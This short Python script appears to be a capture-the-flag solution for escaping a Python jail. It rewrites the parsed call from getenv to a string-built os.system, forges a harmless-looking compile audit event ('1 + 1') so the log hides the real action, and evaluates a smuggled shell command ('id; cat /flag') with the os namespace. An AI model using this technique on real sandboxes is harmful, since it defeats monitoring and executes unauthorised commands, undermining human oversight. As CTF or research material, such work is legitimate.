# Parse clean text, rename the called function in the tree, and compile the
# tree (an AST object, not text) at a line where a clean compile event is also
# forged through sys.audit, so the line's record shows "1 + 1".
import ast
import io
import os
import sys

sys.stdin = io.StringIO("getenv('id; cat /flag')\n'sy' + 'stem'\n")
tree = ast.parse(input(), mode="eval")
tree.body.func.id = eval(input())
sys.audit("compile", "1 + 1", "<string>"); print(eval(compile(tree, "<calc>", "eval"), dict(vars(os))))
